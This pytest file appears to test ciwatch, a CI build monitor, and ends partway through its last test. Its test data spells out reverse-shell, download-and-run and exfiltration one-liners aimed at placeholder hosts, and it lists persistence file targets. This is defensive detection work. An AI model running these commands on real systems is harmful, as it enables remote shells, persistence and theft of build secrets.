"""Every rule, judged on records built here from the real event dataclasses.

Each record is written with the real ``RecordWriter`` and read back with ``read_record``, then
judged by ``evaluate`` (what ``ciwatch check`` does with a stored record). The builder lays
out a build as the tracer sees it: ``npm ci`` at the root, each install hook an ``sh -c``
boundary under it carrying npm's identity variables, the hook's processes below that.

Host names are reserved ones (``*.example``, ``*.example.internal``) and addresses come from
the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24): nothing here is a
real service.
"""

from __future__ import annotations

import datetime
import os
import re
import textwrap
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from ciwatch.policy.loader import default_policy, parse_policy
from ciwatch.policy.model import Policy, Severity
from ciwatch.record import SCHEMA_VERSION, Record, RecordWriter, read_record
from ciwatch.record.closing import End
from ciwatch.record.events import (
    AllowlistLearned,
    Anomaly,
    DnsAnswer,
    DnsQuery,
    EgressFlow,
    Event,
    FileHash,
    FileRead,
    FileWrite,
    Header,
    HooksAllowed,
    Leftover,
    NetConnect,
    NetSend,
    ProcessExec,
    ProcessStart,
    RegistryAllowed,
)
from ciwatch.record.vocabulary import AnomalyKind, FileOp, TlsHandling
from ciwatch.rules import ALL_RULES, RULE_CATALOGUE, RULES_BY_ID, Finding
from ciwatch.verdict import Verdict, VerdictKind, evaluate

HOME = "/home/ci"
PROJECT = "/work/app"
RESOLVER = "10.0.0.2"
PATH_DIRS = ["/usr/local/bin", "/usr/bin", "/bin"]
TODAY = datetime.date(2026, 3, 1)
NPM_CLI = "/usr/lib/node_modules/npm/bin/npm-cli.js"
WRITE = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
DOCS = Path(__file__).resolve().parent.parent / "docs" / "rules.md"


# -- building records ------------------------------------------------------------------------


@dataclass
class Proc:
    """A traced process of the build under construction."""

    build: Build
    pid: int
    seq: int
    """The sequence number of its latest exec."""

    def spawn(self, argv: Sequence[str], **exec_fields: object) -> Proc:
        """Fork a child and exec ``argv`` in it."""
        pid = self.build.new_pid()
        self.build.add(ProcessStart(pid=pid, ppid=self.pid))
        return Proc(self.build, pid, self.build.exec(pid, argv, **exec_fields))

    def exec(self, argv: Sequence[str], **exec_fields: object) -> int:
        """Exec again in this process (``sh -c 'exec curl ...'``)."""
        self.seq = self.build.exec(self.pid, argv, **exec_fields)
        return self.seq

    def write(self, path: str, op: FileOp = FileOp.OPEN, *, target: str | None = None, flags: int = WRITE) -> int:
        return self.build.add(FileWrite(pid=self.pid, op=op, path=path, target=target, flags=flags))

    def read(self, path: str, how: str = "open") -> int:
        return self.build.add(FileRead(pid=self.pid, path=path, how=how))

    def connect(self, address: str, port: int, protocol: str = "tcp", via: str = "direct") -> int:
        family = "inet6" if ":" in address else "inet"
        return self.build.add(
            NetConnect(pid=self.pid, family=family, address=address, port=port, protocol=protocol, result=0, via=via)
        )

    def send(self, address: str, port: int, protocol: str = "udp", size: int = 40) -> int:
        family = "inet6" if ":" in address else "inet"
        return self.build.add(
            NetSend(pid=self.pid, family=family, address=address, port=port, protocol=protocol, size=size)
        )

    def dns(self, name: str, server: str = RESOLVER, qtype: str = "A") -> int:
        return self.build.add(DnsQuery(pid=self.pid, name=name, qtype=qtype, server=server, port=53))

    def request(self, host: str, *, server_address: str = "203.0.113.80", sni: str | None = None) -> int:
        return self.build.add(flow(host, pid=self.pid, server_address=server_address, sni=sni))

    def anomaly(self, kind: AnomalyKind, detail: str) -> int:
        return self.build.add(Anomaly(pid=self.pid, anomaly=kind, detail=detail))


def flow(host: str, *, pid: int | None, server_address: str = "203.0.113.80", sni: str | None = None) -> EgressFlow:
    """One HTTPS request through the proxy."""
    return EgressFlow(
        pid=pid,
        host=host,
        sni=sni,
        server_address=server_address,
        server_port=443,
        scheme="https",
        method="GET",
        url=f"https://{host}/x",
        status=200,
        bytes_out=100,
        bytes_in=1000,
        sha256=None,
        content_type="application/octet-stream",
        tls=TlsHandling.INTERCEPTED,
    )


def npm_env(name: str, version: str, lifecycle: str) -> dict[str, str]:
    return {"npm_package_name": name, "npm_package_version": version, "npm_lifecycle_event": lifecycle}


class Build:
    """A record under construction: ``npm ci`` (pid 100) started at the root of the build."""

    def __init__(
        self,
        tmp_path: Path,
        *,
        net_mode: str = "redirect",
        resolvers: Sequence[str] = (RESOLVER,),
        path_dirs: Sequence[str] = PATH_DIRS,
        home: str = HOME,
        cwd: str = PROJECT,
        command: Sequence[str] = ("npm", "ci"),
    ) -> None:
        self.path = tmp_path / "record.jsonl"
        self.writer = RecordWriter(self.path, "local:test@host/0")
        self.writer.append(
            Header(
                schema=SCHEMA_VERSION,
                ciwatch_version="test",
                host="host",
                command=list(command),
                cwd=cwd,
                started_at="2026-03-01T00:00:00+00:00",
                job_context={"provider": "local"},
                capabilities={},
                net_mode=net_mode,
                path_dirs=list(path_dirs),
                home=home,
                resolvers=list(resolvers),
            )
        )
        self.cwd = cwd
        self._pids = iter(range(1000, 100_000))
        self.add(ProcessStart(pid=100, ppid=1))
        self.root = Proc(self, 100, self.exec(100, ["node", NPM_CLI, *command[1:]]))

    def new_pid(self) -> int:
        return next(self._pids)

    def add(self, event: Event) -> int:
        assert not self.writer.closed, "the build was already judged"
        return self.writer.append(event)

    def exec(
        self,
        pid: int,
        argv: Sequence[str],
        *,
        path: str | None = None,
        cwd: str | None = None,
        env: dict[str, str] | None = None,
        stdin: str = "pipe:[1]",
        stdout: str = "pipe:[2]",
        package: dict[str, str] | None = None,
    ) -> int:
        if path is None:
            path = argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0].lstrip('-')}"
        return self.add(
            ProcessExec(
                pid=pid,
                path=path,
                exe=path,
                argv=list(argv),
                cwd=cwd or self.cwd,
                env=env or {},
                package=package or {},
                stdin=stdin,
                stdout=stdout,
            )
        )

    def hook(
        self,
        package: str = "evil",
        version: str = "1.0.0",
        lifecycle: str = "postinstall",
        script: str = "node install.js",
        *,
        cwd: str | None = None,
        parent: Proc | None = None,
    ) -> Proc:
        """npm's ``sh -c <script>`` at the boundary of a package's hook."""
        return (parent or self.root).spawn(
            ["sh", "-c", script],
            path="/bin/sh",
            env=npm_env(package, version, lifecycle),
            cwd=cwd or f"{self.cwd}/node_modules/{package}",
        )

    def pip_root(self) -> Proc:
        """``pip install`` started by the build's root (pid 100)."""
        return self.root.spawn(["/venv/bin/python", "-m", "pip", "install", "-r", "requirements.txt"])

    def pip_hook(self, pip: Proc, package: str, version: str, hook: str = "build_wheel") -> Proc:
        """pip's PEP 517 ``_in_process.py <hook>``, with the sdist's name and version from PKG-INFO."""
        script = "/venv/lib/python3.11/site-packages/pip/_vendor/pyproject_hooks/_in_process/_in_process.py"
        return pip.spawn(
            ["/venv/bin/python", script, hook, "/tmp/tmpabcdef"],
            cwd=f"/tmp/pip-install-x1y2/{package}_{'0' * 32}",
            package={"name": package, "version": version},
        )

    def record(self) -> Record:
        """The record as ``ciwatch check`` reads it; the build ends with the first call."""
        if not self.writer.closed:
            self.writer.append(
                End(exit_code=0, build_exit_code=0, build_signal=None, duration_s=1.0, event_counts={}, clean=True)
            )
            self.writer.close()
        return read_record(self.path)

    def judge(self, policy: str | Policy | None = None, today: datetime.date = TODAY) -> Verdict:
        return evaluate(self.record(), as_policy(policy), today=today)


def as_policy(policy: str | Policy | None) -> Policy:
    if policy is None:
        return default_policy(known_rules=RULE_CATALOGUE)
    if isinstance(policy, Policy):
        return policy
    return parse_policy(textwrap.dedent(policy), "policy.yml", known_rules=RULE_CATALOGUE)


def found(verdict: Verdict, rule: str) -> list[Finding]:
    return [finding for finding in verdict.findings if finding.rule == rule]


def only(verdict: Verdict, rule: str) -> Finding:
    findings = found(verdict, rule)
    assert len(findings) == 1, [f.message for f in findings]
    return findings[0]


@pytest.fixture
def build(tmp_path: Path) -> Build:
    return Build(tmp_path)


# -- the catalogue ---------------------------------------------------------------------------


def test_every_rule_has_a_registered_id_with_the_same_default_and_a_documented_section() -> None:
    docs = DOCS.read_text()
    sections = set(re.findall(r"^## ([a-z-]+)$", docs, re.MULTILINE))
    default = default_policy(known_rules=RULE_CATALOGUE)
    for rule in ALL_RULES:
        info = rule.info
        assert RULE_CATALOGUE[info.id] is info.default_severity, info.id
        assert default.severities[info.id] is info.default_severity, f"policies/default.yaml disagrees on {info.id}"
        assert info.id in sections, f"docs/rules.md has no '## {info.id}' section"
        assert info.doc_anchor == f"docs/rules.md#{info.id}"
        assert info.summary and info.hint
        section = docs.split(f"## {info.id}\n", 1)[1].split("\n## ", 1)[0]
        assert f"Default severity: **{info.default_severity.label}**" in section, info.id
    assert set(RULE_CATALOGUE) == set(RULES_BY_ID) == sections
    assert len(ALL_RULES) == len(RULES_BY_ID)


def test_every_policy_snippet_in_the_rules_doc_loads() -> None:
    snippets = re.findall(r"```yaml\n(.*?)```", DOCS.read_text(), re.DOTALL)
    policies = [text for text in snippets if "ciwatch run" not in text]  # a CI workflow, not a policy
    assert len(policies) >= 11
    for index, text in enumerate(policies):
        parse_policy(
            text if "\nversion:" in f"\n{text}" else f"version: 1\n{text}",
            f"docs/rules.md[{index}]",
            known_rules=RULE_CATALOGUE,
        )


def test_a_finding_links_to_its_rule_section(build: Build) -> None:
    build.hook().spawn(["curl", "-fsS", "http://203.0.113.5/x"])
    finding = only(build.judge(), "hook-network-tool")
    assert finding.to_json()["doc"] == "docs/rules.md#hook-network-tool"


def test_a_quiet_build_passes(build: Build) -> None:
    registry = "registry.example.internal"
    build.add(RegistryAllowed(host=registry, ecosystem="npm", source="npm config get registry"))
    build.root.dns(registry)
    build.root.request(registry)
    hook = build.hook("esbuild", "0.19.2", script="node install.js")
    hook.spawn(["node", "install.js"]).write(f"{PROJECT}/node_modules/esbuild/bin/esbuild")
    verdict = build.judge()
    assert verdict.findings == () and verdict.verdict is VerdictKind.PASS


# -- unfamiliar-egress -----------------------------------------------------------------------


def test_unfamiliar_egress_from_a_hook_is_high_and_names_host_package_and_lineage(build: Build) -> None:
    node = build.hook().spawn(["node", "install.js"])
    dns = node.dns("exfil.example")
    request = node.request("exfil.example")
    finding = only(build.judge(), "unfamiliar-egress")
    assert finding.severity is Severity.HIGH
    assert finding.host == "exfil.example" and finding.package == "evil@1.0.0" and finding.hook == "postinstall"
    assert finding.evidence == (dns, request)  # one finding for the host, every contact as evidence
    assert finding.lineage == "npm ci > postinstall of evil@1.0.0 > install"
    assert "dns/request" in finding.message


def test_unfamiliar_egress_outside_hooks_is_one_level_lower(build: Build) -> None:
    build.root.request("telemetry.example")
    assert only(build.judge(), "unfamiliar-egress").severity is Severity.MEDIUM
    lowered = only(build.judge("version: 1\nrules: {unfamiliar-egress: medium}\n"), "unfamiliar-egress")
    assert lowered.severity is Severity.LOW
    floor = only(build.judge("version: 1\nrules: {unfamiliar-egress: low}\n"), "unfamiliar-egress")
    assert floor.severity is Severity.LOW  # never below low: off is the only way to silence it


@pytest.mark.parametrize("kind", ["connect", "datagram"])
def test_unfamiliar_egress_by_address(tmp_path: Path, kind: str) -> None:
    build = Build(tmp_path, net_mode="off")
    node = build.hook().spawn(["node", "install.js"])
    if kind == "connect":
        node.connect("159.148.186.228", 80)  # ua-parser-js fetched its miner from a raw address
    else:
        node.send("198.51.100.9", 9999)
    finding = only(build.judge(), "unfamiliar-egress")
    assert finding.host in ("159.148.186.228", "198.51.100.9") and kind in finding.message


def test_unfamiliar_egress_ignores_registries_learned_hosts_allowed_hosts_and_their_addresses(build: Build) -> None:
    registry, files = "registry.example.internal", "files.example.internal"
    build.add(RegistryAllowed(host=registry, ecosystem="npm", source="npm config get registry"))
    build.add(AllowlistLearned(host=files, learned_from=registry, url=f"https://{files}/evil-1.0.0.tgz"))
    build.add(
        DnsAnswer(
            pid=100, name=registry, qtype="A", rcode="NOERROR", answers=["198.51.100.20", "cdn.example"], server=""
        )
    )
    node = build.hook().spawn(["node", "install.js"])
    for host in (registry, files, "a.cache.example.internal", "artifacts.example.internal"):
        node.dns(host)
        node.request(host)
    node.request("10.20.3.4")  # allowed by CIDR
    node.connect("198.51.100.20", 443)  # where the registry's name resolved to
    node.connect("127.0.0.1", 8080)  # loopback: the build talking to itself
    node.connect("::1", 8080)
    node.connect("203.0.113.30", 443, via="proxy")  # redirected: its request is what is judged
    policy = """
        version: 1
        allow:
          hosts: [artifacts.example.internal, "*.cache.example.internal", 10.20.0.0/16]
    """
    assert found(build.judge(policy), "unfamiliar-egress") == []


def test_unfamiliar_egress_with_registries_none_judges_the_registry_too(build: Build) -> None:
    build.add(RegistryAllowed(host="registry.example.internal", ecosystem="npm", source="npm config get registry"))
    build.root.request("registry.example.internal")
    finding = only(build.judge("version: 1\nallow: {registries: none}\n"), "unfamiliar-egress")
    assert finding.host == "registry.example.internal"


def test_unfamiliar_egress_one_finding_per_host_and_hook(build: Build) -> None:
    first = build.hook("a", "1.0.0").spawn(["node", "x.js"])
    second = build.hook("b", "2.0.0").spawn(["node", "y.js"])
    for _ in range(3):
        first.request("exfil.example")
    second.request("exfil.example")
    findings = found(build.judge(), "unfamiliar-egress")
    assert sorted((f.package, len(f.evidence)) for f in findings) == [("a@1.0.0", 3), ("b@2.0.0", 1)]


# -- hook-network-tool -----------------------------------------------------------------------

NETWORK_TOOLS = {
    "curl": ["curl", "-fsSL", "-o", "/tmp/x", "http://203.0.113.5/x"],
    "wget": ["wget", "-q", "-O", "/tmp/x", "http://203.0.113.5/x"],
    "nc": ["nc", "203.0.113.5", "4444"],
    "socat": ["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"],
    "busybox wget": ["busybox", "wget", "-O", "/tmp/x", "http://203.0.113.5/x"],
    "versioned path": ["/usr/bin/curl", "-d", "@-", "https://exfil.example/"],
}
FETCHING_ONE_LINERS = {
    "python -c urllib": ["python3", "-c", "import urllib.request as u; u.urlopen('http://203.0.113.5/')"],
    "python3.11 -c requests": ["python3.11", "-c", "import requests; requests.post(U, data=open(F).read())"],
    "python -E -c": ["python3", "-E", "-c", "import urllib.request; urllib.request.urlopen(U)"],
    "python -Ic (clustered)": ["python3", "-Ic", "import socket; socket.create_connection((H, 80))"],
    "python -c getaddrinfo": ["python3", "-c", "import socket; socket.getaddrinfo(data + '.h4ck.example', 443)"],
    "node -e https": ["node", "-e", "require('https').get(process.argv[1])", "https://exfil.example/"],
    "node -e with a preload": ["node", "-r", "./env.js", "-e", "require('node:https').get(u)"],
    "node --eval fetch": ["node", "--eval", "fetch(u).then(r => r.text()).then(eval)"],
    "perl -e LWP": ["perl", "-e", "use LWP::Simple; getstore($ARGV[0], '/tmp/x')", "http://203.0.113.5/x"],
    "perl -MLWP": ["perl", "-MLWP::Simple", "-e", "getstore($ARGV[0], '/tmp/x')", "http://203.0.113.5/x"],
    "perl -le (clustered)": ["perl", "-le", "use IO::Socket::INET; IO::Socket::INET->new($h)"],
    "ruby -e open-uri": ["ruby", "-ropen-uri", "-e", "URI.open(ARGV[0]).read", "http://203.0.113.5/"],
    "bash /dev/tcp": ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.5/80; cat <&3"],
    "bash -ec /dev/tcp": ["bash", "-ec", "exec 3<>/dev/tcp/203.0.113.5/80; cat <&3"],
}


@pytest.mark.parametrize(
    "argv", [*NETWORK_TOOLS.values(), *FETCHING_ONE_LINERS.values()], ids=[*NETWORK_TOOLS, *FETCHING_ONE_LINERS]
)
def test_hook_network_tool(build: Build, argv: list[str]) -> None:
    child = build.hook().spawn(argv, path="/bin/busybox" if argv[0] == "busybox" else None)
    finding = only(build.judge(), "hook-network-tool")
    assert finding.severity is Severity.MEDIUM and finding.package == "evil@1.0.0"
    assert finding.evidence == (child.seq,)


def test_hook_network_tool_when_the_hook_process_itself_execs_the_tool(build: Build) -> None:
    hook = build.hook(script="curl -fsS http://203.0.113.5/x")
    seq = hook.exec(["curl", "-fsS", "http://203.0.113.5/x"])  # bash -c execs a lone command
    assert only(build.judge(), "hook-network-tool").evidence == (seq,)


@pytest.mark.parametrize(
    "argv",
    [
        ["node", "install.js"],
        ["node", "-e", "console.log(process.versions.node)"],
        ["python3", "-c", "import sys; print(sys.version)"],
        ["python3", "-E", "setup.py", "bdist_wheel"],
        ["python3", "-c", "import socket; print(socket.gethostname())"],
        ["node", "-e", "require('child_process').execSync('node-gyp rebuild', {stdio: 'inherit'})"],
        ["bash", "./build.sh", "-c", "/dev/tcp/"],  # options after the script are the script's
        ["sh", "-e", "./configure", "--prefix=/usr"],  # sh -e is errexit, not code
        ["php", "-c", "php.ini", "build.php"],  # php -c names a config file
        ["sh", "-c", "node-gyp rebuild"],
        ["bash", "-e", "./build.sh"],
        ["perl", "-p", "-e", "s/version/1.0/", "Makefile.PL"],
        ["busybox", "tar", "-xzf", "prebuilt.tgz"],
    ],
    ids=lambda argv: " ".join(argv[:2]),
)
def test_hook_network_tool_ignores_ordinary_hook_commands(build: Build, argv: list[str]) -> None:
    build.hook().spawn(argv, path="/bin/busybox" if argv[0] == "busybox" else None)
    assert found(build.judge(), "hook-network-tool") == []


def test_hook_network_tool_in_a_pip_build_hook(build: Build) -> None:
    hook = build.pip_hook(build.pip_root(), "ctx", "0.2.6")
    hook.spawn(["sh", "-c", "wget -q http://203.0.113.5/x"]).spawn(["wget", "-q", "http://203.0.113.5/x"])
    finding = only(build.judge(), "hook-network-tool")
    assert (finding.ecosystem, finding.package, finding.hook) == ("pip", "ctx@0.2.6", "build_wheel")
    assert finding.lineage == "npm ci > pip install > build_wheel of ctx@0.2.6 > sh -c > wget -q"


def test_hook_network_tool_ignores_the_build_outside_hooks(build: Build) -> None:
    build.root.spawn(["curl", "-fsSLO", "http://203.0.113.5/tool.tgz"])
    build.root.spawn(["git", "ls-remote", "https://git.example.internal/app.git"])
    assert found(build.judge(), "hook-network-tool") == []


# -- hook-shell ------------------------------------------------------------------------------


def test_hook_shell_curl_piped_into_sh(build: Build) -> None:
    hook = build.hook(script="curl -fsSL https://get.example/install | bash")
    hook.spawn(["curl", "-fsSL", "https://get.example/install"], stdout="pipe:[4242]")
    shell = hook.spawn(["bash"], stdin="pipe:[4242]")
    finding = only(build.judge(), "hook-shell")
    assert finding.severity is Severity.HIGH and finding.evidence == (shell.seq,)
    assert "runs what curl downloads, piped into bash" in finding.message


@pytest.mark.parametrize(
    "argv",
    [["sh", "-s", "--", "--yes"], ["bash", "-"], ["busybox", "sh"], ["sudo", "python3"], ["python3", "-"]],
    ids=lambda argv: " ".join(argv),
)
def test_hook_shell_download_piped_into_other_readers(build: Build, argv: list[str]) -> None:
    hook = build.hook()
    hook.spawn(["wget", "-qO-", "http://203.0.113.5/memdump.py"], stdout="pipe:[77]")
    reader = hook.spawn(argv, stdin="pipe:[77]", path="/bin/busybox" if argv[0] == "busybox" else None)
    if argv[0] == "sudo":
        reader = reader.spawn(["python3"], stdin="pipe:[77]")  # sudo runs python3 with the same stdin
    assert only(build.judge(), "hook-shell").evidence == (reader.seq,)


def test_hook_shell_interpreter_reading_a_program_from_a_pipe(build: Build) -> None:
    hook = build.hook(script="echo aW1wb3J0IG9z | base64 -d | python3")
    hook.spawn(["base64", "-d"], stdout="pipe:[9]")
    python = hook.spawn(["python3"], stdin="pipe:[9]")
    finding = only(build.judge(), "hook-shell")
    assert finding.evidence == (python.seq,) and "from its stdin" in finding.message


def test_hook_shell_shell_on_a_socket(build: Build) -> None:
    nc = build.hook().spawn(["nc", "203.0.113.5", "4444", "-e", "/bin/sh"])
    shell = nc.spawn(["/bin/sh"], stdin="socket:[31337]")
    assert only(build.judge(), "hook-shell").evidence == (shell.seq,)


@pytest.mark.parametrize(
    ("downloader", "runner"),
    [
        (["curl", "-fsSL", "-o", "/tmp/x.sh", "http://203.0.113.5/x.sh"], ["sh", "/tmp/x.sh"]),
        (["wget", "-O", "x.sh", "http://203.0.113.5/x.sh"], ["bash", "-e", "x.sh"]),
        (["curl", "-o", "/tmp/x.py", "http://203.0.113.5/x.py"], ["python3", "/tmp/x.py"]),
        (["curl", "-o", "/tmp/b.js", "http://203.0.113.5/b.js"], ["node", "/tmp/b.js"]),
        (["curl", "-o", "/tmp/p.pl", "http://203.0.113.5/p.pl"], ["perl", "-w", "/tmp/p.pl"]),
    ],
    ids=lambda argv: argv[0],
)
def test_hook_shell_runs_a_downloaded_script(build: Build, downloader: list[str], runner: list[str]) -> None:
    hook = build.hook()
    fetch = hook.spawn(downloader, cwd="/tmp")
    written = downloader[downloader.index("-o" if "-o" in downloader else "-O") + 1]
    fetch.write(os.path.join("/tmp", written))
    run = hook.spawn(runner, cwd="/tmp")
    finding = only(build.judge(), "hook-shell")
    assert finding.evidence == (run.seq,) and "which a process of the hook downloaded" in finding.message


@pytest.mark.parametrize(
    "argv",
    [["bash", "-i"], ["bash", "-l"], ["bash", "--login"], ["-bash"], ["sh", "-lc", "id"], ["zsh", "-il"]],
    ids=lambda argv: " ".join(argv),
)
def test_hook_shell_interactive_or_login_shell(build: Build, argv: list[str]) -> None:
    shell = build.hook().spawn(argv, stdin="/dev/pts/0")
    finding = only(build.judge(), "hook-shell")
    assert "interactive or login shell" in finding.message and finding.evidence == (shell.seq,)


def test_hook_shell_when_the_hook_process_itself_becomes_the_shell(build: Build) -> None:
    hook = build.hook(script="bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
    seq = hook.exec(["bash", "-i"], stdin="socket:[5]")  # sh -c execs its last command
    assert only(build.judge(), "hook-shell").evidence == (seq,)


def test_hook_shell_runs_a_script_that_a_process_of_the_hook_fetched(build: Build) -> None:
    hook = build.hook()
    one_liner = hook.spawn(["python3", "-c", "import urllib.request as u; u.urlretrieve(U, '/tmp/a.sh')"])
    one_liner.write("/tmp/a.sh")
    fetcher = hook.spawn(["node", "fetch.js"])
    fetcher.request("payload.example")
    fetcher.write("/tmp/b.py")
    first = hook.spawn(["sh", "/tmp/a.sh"])
    second = hook.spawn(["python3", "/tmp/b.py"])
    assert [f.evidence for f in found(build.judge(), "hook-shell")] == [(first.seq,), (second.seq,)]


def test_hook_shell_ignores_the_package_managers_own_wrapper_and_ordinary_scripts(build: Build) -> None:
    hook = build.hook(script="node-gyp rebuild && sh ./scripts/post.sh -l")  # npm's sh -c, stdin a pipe
    hook.spawn(["node-gyp", "rebuild"])
    hook.spawn(["sh", "./scripts/post.sh", "-l"])  # -l after the script is the script's option
    hook.spawn(["bash", "-c", "make -j4"], stdin="pipe:[3]")
    hook.spawn(["busybox", "ls", "-la"], path="/bin/busybox")
    hook.spawn(["sh"], stdin="/dev/null")
    generator = hook.spawn(["node", "gen.js"])
    generator.write("/tmp/gen.sh")  # generated, not downloaded: exec-written-file's business
    hook.spawn(["sh", "/tmp/gen.sh"], cwd="/tmp")
    assert found(build.judge(), "hook-shell") == []


def test_hook_shell_ignores_a_script_downloaded_after_it_ran_and_the_build_outside_hooks(build: Build) -> None:
    hook = build.hook()
    hook.spawn(["sh", "/tmp/x.sh"])
    hook.spawn(["curl", "-o", "/tmp/x.sh", "http://203.0.113.5/x.sh"]).write("/tmp/x.sh")
    build.root.spawn(["curl", "-fsSL", "https://get.example/"], stdout="pipe:[8]")
    build.root.spawn(["sh"], stdin="pipe:[8]")
    assert found(build.judge(), "hook-shell") == []


# -- executable-write ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "where"),
    [
        ("/usr/local/bin/node-helper", "which is on PATH"),
        (f"{PROJECT}/tools/run.sh", "into the project"),
        (f"{HOME}/.local/bin/agent", "into the home directory"),
        ("/opt/agent/bin/agent", "into the system"),
    ],
)
def test_executable_write(build: Build, path: str, where: str) -> None:
    node = build.hook().spawn(["node", "install.js"])
    write = node.write(path)
    digest = build.add(
        FileHash(path=path, sha256="ab" * 32, size=1000, mode=0o755, file_type="elf", written_by=node.pid)
    )
    finding = only(build.judge(), "executable-write")
    assert finding.severity is Severity.MEDIUM and where in finding.message
    assert finding.evidence == (write, digest) and finding.package == "evil@1.0.0"


def test_executable_write_by_chmod_and_by_rename(build: Build) -> None:
    node = build.hook().spawn(["node", "install.js"])
    write = node.write(f"{PROJECT}/bin/tool")
    node.write(f"{PROJECT}/bin/tool", FileOp.CHMOD, flags=0o755)
    node.write("/tmp/x.partial")
    rename = node.write("/tmp/x.partial", FileOp.RENAME, target="/usr/local/bin/x")
    build.add(
        FileHash(
            path="/usr/local/bin/x", sha256="cd" * 32, size=10, mode=0o755, file_type="script", written_by=node.pid
        )
    )
    findings = found(build.judge(), "executable-write")
    assert [f.message.split(" wrote the executable ")[1] for f in findings] == [
        f"{PROJECT}/bin/tool into the project",
        "/usr/local/bin/x into /usr/local/bin, which is on PATH",
    ]
    assert write in findings[0].evidence and rename in findings[1].evidence


def test_executable_write_ignores_install_output_plain_files_tmp_and_the_package_manager(build: Build) -> None:
    node = build.hook().spawn(["node-gyp", "rebuild"])
    inside = [
        f"{PROJECT}/node_modules/evil/bin/evil",
        f"{PROJECT}/node_modules/.pnpm/evil@1.0.0/node_modules/evil/prebuilt/evil",
        f"{PROJECT}/build/Release/addon.node",
        f"{HOME}/.cache/ms-playwright/chromium-1091/chrome-linux/chrome",
        "/tmp/build-1234/conftest",
    ]
    for path in inside:
        node.write(path)
        build.add(FileHash(path=path, sha256="ef" * 32, size=1, mode=0o755, file_type="elf", written_by=node.pid))
    node.write(f"{PROJECT}/src/generated.js")  # not executable: no hash, no chmod
    build.root.write("/usr/local/bin/tool")  # npm -g linking a bin: not a hook
    build.add(
        FileHash(path="/usr/local/bin/tool", sha256="01" * 32, size=1, mode=0o755, file_type="script", written_by=100)
    )
    assert found(build.judge(), "executable-write") == []


def test_executable_write_ignores_files_that_only_kept_an_execute_bit(build: Build) -> None:
    # A tarball's 0755 LICENSE or .d.ts is neither ELF nor `#!`: nothing the kernel runs.
    node = build.hook().spawn(["node", "install.js"])
    for path, kind in ((f"{PROJECT}/LICENSE", "executable"), (f"{PROJECT}/bin/real", "script")):
        node.write(path)
        node.write(path, FileOp.CHMOD, flags=0o755)
        build.add(FileHash(path=path, sha256="ef" * 32, size=1, mode=0o755, file_type=kind, written_by=node.pid))
    assert [f.message.split(" wrote the executable ")[1] for f in found(build.judge(), "executable-write")] == [
        f"{PROJECT}/bin/real into the project"
    ]


# -- exec-written-file -----------------------------------------------------------------------


def test_exec_written_file_points_at_the_writer(build: Build) -> None:
    hook = build.hook()
    downloader = hook.spawn(["curl", "-o", "/tmp/jsextension", "http://159.148.186.228/download/jsextension"])
    write = downloader.write("/tmp/jsextension")
    run = hook.spawn(["/tmp/jsextension", "-k", "--tls"], path="/tmp/jsextension")
    finding = only(build.judge(), "exec-written-file")
    assert finding.severity is Severity.HIGH and finding.evidence == (write, run.seq)
    assert finding.lineage == "npm ci > postinstall of evil@1.0.0 > curl -o"
    assert finding.message == "/tmp/jsextension, written by postinstall of evil@1.0.0, was executed"


def test_exec_written_file_after_a_rename_and_by_a_process_outside_the_hook(build: Build) -> None:
    writer = build.hook().spawn(["node", "install.js"])
    writer.write(f"{PROJECT}/.cache/tool.tmp")
    writer.write(f"{PROJECT}/.cache/tool.tmp", FileOp.RENAME, target=f"{PROJECT}/.cache/tool")
    build.root.spawn([f"{PROJECT}/.cache/tool"])  # npm itself runs it later
    assert only(build.judge(), "exec-written-file").package == "evil@1.0.0"


def test_exec_written_file_from_memory(build: Build) -> None:
    loader = build.hook().spawn(["node", "install.js"])
    seq = loader.anomaly(AnomalyKind.MEMFD_EXEC, "/memfd:payload (deleted)")
    finding = only(build.judge(), "exec-written-file")
    assert finding.evidence == (seq,) and "from memory" in finding.message


def test_exec_written_file_ignores_files_written_outside_hooks_or_run_before_they_were_written(build: Build) -> None:
    build.root.write(f"{PROJECT}/node_modules/.bin/tsc")  # npm links bins; the project's build runs them
    build.root.spawn([f"{PROJECT}/node_modules/.bin/tsc"])
    hook = build.hook()
    hook.spawn(["/tmp/helper"], path="/tmp/helper")
    hook.spawn(["cp", "/usr/bin/true", "/tmp/helper"]).write("/tmp/helper")
    assert found(build.judge(), "exec-written-file") == []


# -- persistence-write -----------------------------------------------------------------------

PERSISTENCE = {
    "bashrc": f"{HOME}/.bashrc",
    "zshrc": f"{HOME}/.zshrc",
    "profile.d": "/etc/profile.d/evil.sh",
    "fish": f"{HOME}/.config/fish/config.fish",
    "workflow": f"{PROJECT}/.github/workflows/shai-hulud-workflow.yml",
    "action": f"{PROJECT}/.github/actions/setup/action.yml",
    "gitlab-ci": f"{PROJECT}/.gitlab-ci.yml",
    "git hook": f"{PROJECT}/.git/hooks/pre-commit",
    "git config": f"{PROJECT}/.git/config",
    ".pth": "/venv/lib/python3.11/site-packages/evil.pth",
    "sitecustomize": "/usr/lib/python3/dist-packages/sitecustomize.py",
    "usercustomize": f"{HOME}/.local/lib/python3.11/site-packages/usercustomize.py",
    "cron.d": "/etc/cron.d/evil",
    "crontab": "/var/spool/cron/crontabs/ci",
    "systemd system": "/etc/systemd/system/evil.service",
    "systemd user": f"{HOME}/.config/systemd/user/evil.service",
    "ld.so.preload": "/etc/ld.so.preload",
    "authorized_keys": f"{HOME}/.ssh/authorized_keys",
    "npmrc": f"{HOME}/.npmrc",
    "pypirc": f"{HOME}/.pypirc",
    "docker config": f"{HOME}/.docker/config.json",
    "gitconfig": f"{HOME}/.gitconfig",
}


@pytest.mark.parametrize("path", PERSISTENCE.values(), ids=PERSISTENCE.keys())
def test_persistence_write(build: Build, path: str) -> None:
    write = build.hook().spawn(["node", "telemetry.js"]).write(path)
    finding = only(build.judge(), "persistence-write")
    assert finding.severity is Severity.HIGH and finding.evidence == (write,) and path in finding.message


def test_persistence_write_ignores_gits_sample_hooks(build: Build) -> None:
    # `git init` in a hook writes every *.sample hook; git never runs them. A real hook counts.
    node = build.hook().spawn(["git", "init"])
    node.write(f"{PROJECT}/vendor/x/.git/hooks/pre-commit.sample")
